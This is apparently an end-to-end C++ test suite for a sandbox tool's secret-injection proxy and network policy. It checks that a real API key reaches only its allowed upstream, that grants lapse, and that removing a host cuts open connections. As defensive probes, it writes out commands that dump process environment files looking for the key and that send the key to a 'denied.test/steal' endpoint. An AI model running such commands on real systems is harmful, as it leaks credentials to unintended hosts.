// Secrets warden injects, and the policy loop an agent acts on, through real
// cells: the upstream (nginx, logging the headers it received) sees the real
// key while the cell sees only a placeholder; time-boxed grants lapse; a
// denial's JSON body and `policy suggest --apply` reopen what was blocked.
#include <regex>

#include "brig/core/strings.h"
#include "e2e/e2e_fixture.h"

namespace brig::testing::e2e {
namespace {

const std::string kValue = "sk-e2e-REAL-4242-value";

std::string read_all(const std::string& path) {
  std::ifstream in(path);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

TEST_F(Cells, InjectedSecretIsAPlaceholderInTheCellAndTheValueOnlyUpstream) {
  add_secret("e2e-llm", kValue + "\n");
  const std::string spec = dir_ + "/inject.yaml";
  std::ofstream(spec) << "name: e2e-inject\nimage: " << kDebian << "\ncommand: [sleep, \"300\"]\n"
                      << "policy:\n  allow: [allowed.test, denied.test]\n"
                      << "secrets:\n  - {name: e2e-llm, env: LLM_KEY, hosts: [allowed.test]}\n";
  auto run = brig({"run", "-d", "-f", spec});
  ASSERT_EQ(run.exit_code, 0) << run.err;
  EXPECT_THAT(run.err, HasSubstr("secret e2e-llm is injected by warden for allowed.test"));
  auto sh = [](const std::string& script) { return brig({"cell", "exec", "e2e-inject", "--", "sh", "-c", script}); };

  // The cell: a placeholder in its env, the value nowhere it can read.
  const std::string placeholder = std::string(str::trim(sh("printf %s \"$LLM_KEY\"").out));
  EXPECT_TRUE(std::regex_match(placeholder, std::regex("brig-secret-e2e-llm-[0-9a-f]{32}"))) << placeholder;
  auto look = sh("cat /proc/self/environ /proc/1/environ /run/brig/cell.json; ls -R /run; env");
  EXPECT_EQ(look.out.find(kValue), std::string::npos);
  EXPECT_EQ(sh("test -e /run/secrets/e2e-llm && echo mounted").out, "");
  // To its host: the upstream gets the value.
  auto ok = sh("curl -sS --max-time 20 -H \"Authorization: Bearer $LLM_KEY\" https://allowed.test/v1/chat");
  EXPECT_THAT(ok.out, HasSubstr("upstream allowed.test GET /v1/chat")) << ok.err;
  // In the query too; nginx echoes the URI, value included: that answer is cut before the cell.
  auto query = sh("curl -sS --max-time 20 \"https://allowed.test/v1/q?k=$LLM_KEY\"");
  EXPECT_NE(query.exit_code, 0);
  EXPECT_EQ((query.out + query.err).find(kValue), std::string::npos) << "the value came back: " << query.out;
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  const std::string seen = read_all(upstream_->access_log());
  EXPECT_THAT(seen, HasSubstr("allowed.test GET /v1/chat authorization=\"Bearer " + kValue + "\""));
  EXPECT_THAT(seen, HasSubstr("allowed.test GET /v1/q?k=" + kValue + " "));
  EXPECT_THAT(seen, Not(HasSubstr(placeholder)));
  // To another allowed host: refused with the code, naming the secret.
  auto other = sh("curl -sS -i --max-time 20 -H \"x-api-key: $LLM_KEY\" https://denied.test/steal");
  EXPECT_THAT(other.out, HasSubstr("403"));
  EXPECT_THAT(other.out, HasSubstr("X-Brig-Blocked: secret"));
  EXPECT_THAT(other.out, HasSubstr("placeholder of secret e2e-llm"));
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  EXPECT_THAT(read_all(upstream_->access_log()), Not(HasSubstr("/steal")));

  // Nothing brig shows holds the value; the secret cannot go while the cell uses it.
  auto shown = brig({"cell", "inspect", "e2e-inject"});
  EXPECT_THAT(shown.out, HasSubstr("e2e-llm -> $LLM_KEY for allowed.test"));
  const std::string everything = shown.out + brig({"--format", "json", "cell", "inspect", "e2e-inject"}).out +
                                 brig({"cell", "network", "e2e-inject"}).out + brig({"system", "stats"}).out;
  EXPECT_EQ(everything.find(kValue), std::string::npos);
  auto rm = brig({"secrets", "rm", "e2e-llm"});
  EXPECT_NE(rm.exit_code, 0);
  EXPECT_THAT(rm.err, HasSubstr("e2e-inject"));
  brig({"cell", "rm", "--force", "e2e-inject"});
  EXPECT_FALSE(stdfs::exists(home_ + "/state/system/secrets/e2e-inject.json"));
}

TEST_F(Cells, PassthroughNeverInjects) {
  add_secret("e2e-pass-key", kValue + "-pass\n");
  const std::string spec = dir_ + "/pass.yaml";
  std::ofstream(spec) << "name: e2e-pass\nimage: " << kDebian << "\n"
                      << "policy:\n  allow: [allowed.test]\n  tls_passthrough: [allowed.test]\n"
                      << "secrets:\n  - {name: e2e-pass-key, env: KEY, hosts: [allowed.test]}\n";
  // (-k: the upstream's own certificate reaches the cell, which does not know its CA)
  auto out = brig({"run", "--rm", "-f", spec, "--", "sh", "-c",
                   "curl -sSk --max-time 20 -H \"Authorization: Bearer $KEY\" https://allowed.test/passed"});
  EXPECT_THAT(out.out, HasSubstr("upstream allowed.test GET /passed")) << out.err;
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  const std::string seen = read_all(upstream_->access_log());
  EXPECT_THAT(seen, HasSubstr("allowed.test GET /passed authorization=\"Bearer brig-secret-e2e-pass-key-"));
  EXPECT_THAT(seen, Not(HasSubstr(kValue + "-pass")));
}

// A download through a passthrough tunnel, cut when `policy set --remove`
// takes its host away: the cell's curl fails mid-stream within a second or
// two, having received only part of the file.
TEST_F(Cells, RemovingAHostCutsAnOpenPassthroughDownload) {
  const std::string spec = dir_ + "/cut.yaml";
  std::ofstream(spec) << "name: e2e-cut\nimage: " << kDebian << "\ncommand: [sleep, \"300\"]\n"
                      << "policy:\n  allow: [allowed.test]\n  tls_passthrough: [allowed.test]\n";
  auto run = brig({"run", "-d", "-f", spec});
  ASSERT_EQ(run.exit_code, 0) << run.err;
  // 64 MiB at 2 MiB/s: 32 s if nothing cuts it.
  auto download = std::async(std::launch::async, [] {
    return brig({"cell", "exec", "e2e-cut", "--", "sh", "-c",
                 "curl -sSk --max-time 60 --limit-rate 2M -o /dev/null -w '%{size_download}' https://allowed.test/big"});
  });
  std::this_thread::sleep_for(std::chrono::seconds(3));
  const auto cut = std::chrono::steady_clock::now();
  auto rm = brig({"policy", "set", "e2e-cut", "--remove", "allowed.test"});
  ASSERT_EQ(rm.exit_code, 0) << rm.err;
  ASSERT_EQ(download.wait_for(std::chrono::seconds(10)), std::future_status::ready) << "the download was not cut";
  const auto took = std::chrono::steady_clock::now() - cut;
  auto out = download.get();
  EXPECT_NE(out.exit_code, 0);
  EXPECT_LT(took, std::chrono::seconds(5));
  const long got = std::atol(out.out.c_str());
  EXPECT_GT(got, 1 << 20) << out.out << out.err;  // it was flowing
  EXPECT_LT(got, 32 << 20) << out.out;            // and it stopped
  auto net = brig({"cell", "network", "e2e-cut"});
  EXPECT_THAT(net.out, HasSubstr("PASSTHROUGH: allowed.test:443"));
  EXPECT_THAT(net.out, HasSubstr("(closed by warden: policy generation"));
  brig({"cell", "rm", "--force", "e2e-cut"});
}

TEST_F(Cells, ATimeBoxedGrantLapsesAndSuggestReopensWhatWasDenied) {
  auto a = brig({"run", "-d", "--name", "e2e-ttl", kDebian, "--", "sleep", "300"});
  ASSERT_EQ(a.exit_code, 0) << a.err;
  auto curl = [](const std::string& url, const std::string& extra = "") {
    return brig({"cell", "exec", "e2e-ttl", "--", "sh", "-c", "curl -sS --max-time 20 " + extra + " " + url});
  };
  // A denial an agent can parse.
  auto json = curl("http://allowed.test/api/items/1", "-H 'Accept: application/json'");
  auto body = nlohmann::json::parse(json.out, nullptr, false);
  ASSERT_TRUE(body.is_object()) << json.out;
  EXPECT_EQ(body["error"], "blocked");
  EXPECT_EQ(body["code"], "no_rule");
  EXPECT_EQ(body["cell"], "e2e-ttl");
  EXPECT_THAT(body["fix"].get<std::string>(), HasSubstr("brig policy set e2e-ttl --allow allowed.test"));

  // A 3 s grant: in force at once, gone after it lapses (enforced by warden).
  auto set = brig({"policy", "set", "e2e-ttl", "--allow", "allowed.test", "--ttl", "3s"});
  ASSERT_EQ(set.exit_code, 0) << set.err;
  std::string seen;
  for (int i = 0; i < 10 && seen.find("upstream allowed.test") == std::string::npos; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
    seen = curl("http://allowed.test/granted").out;
  }
  EXPECT_THAT(seen, HasSubstr("upstream allowed.test GET /granted"));
  EXPECT_THAT(brig({"policy", "show", "e2e-ttl"}).out, HasSubstr("left)"));
  std::this_thread::sleep_for(std::chrono::seconds(4));
  EXPECT_THAT(curl("http://allowed.test/late").out, HasSubstr("brig policy set e2e-ttl --allow allowed.test"));
  EXPECT_THAT(brig({"cell", "network", "e2e-ttl"}).out, HasSubstr("POLICY: allow allowed.test until"));

  // What suggest prints, applied, lets the denied requests through.
  auto suggest = brig({"policy", "suggest", "e2e-ttl"});
  ASSERT_EQ(suggest.exit_code, 0) << suggest.err;
  EXPECT_THAT(suggest.out, HasSubstr("allowed.test"));
  auto apply = brig({"policy", "suggest", "e2e-ttl", "--apply", "--yes"});
  ASSERT_EQ(apply.exit_code, 0) << apply.err;
  seen.clear();
  for (int i = 0; i < 10 && seen.find("upstream allowed.test") == std::string::npos; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
    seen = curl("http://allowed.test/late").out;
  }
  EXPECT_THAT(seen, HasSubstr("upstream allowed.test GET /late"));
  brig({"cell", "rm", "--force", "e2e-ttl"});
}

}  // namespace
}  // namespace brig::testing::e2e
